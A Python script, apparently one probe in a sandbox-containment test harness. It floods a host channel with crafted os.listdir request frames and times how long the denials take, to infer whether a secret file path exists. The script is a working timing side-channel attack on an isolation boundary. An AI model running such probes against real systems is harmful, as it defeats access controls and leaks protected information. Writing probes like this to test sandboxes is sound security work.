import fcntl
import os
import struct
import time

from arms import P, attempt, channel

sent = [0]


def cost(fd, path):
    """How long the host takes over denials of `path`, seen by its reading of the channel."""

    def waiting():
        left = bytearray(4)
        fcntl.ioctl(fd, 0x541B, left)
        return any(left)

    name = path.encode()
    body = b"\x94\xaaos.listdir\x91\xd9" + bytes((len(name),)) + name + b"\xc0\xc0"
    while waiting():
        time.sleep(0.0005)
    begin = time.perf_counter()
    for _ in range(3000):
        sent[0] += 1
        head = struct.pack("<HHBBHIIQQ", 0x4A42, 32 + len(body), 2, 1, 1, 77, 1, sent[0], 0)
        os.write(fd, head + body)
    while waiting():
        time.sleep(0.0002)
    return time.perf_counter() - begin


@attempt
def deed():
    there, missing = P["secret"], P["secret"][:-1] + "X"
    fd = channel()
    if fd is None:
        return os.path.exists(there) != os.path.exists(missing)
    cost(fd, "/warm/up")
    pairs = [(cost(fd, there), cost(fd, missing)) for _ in range(6)]
    return min(a for a, _ in pairs) > max(b for _, b in pairs)
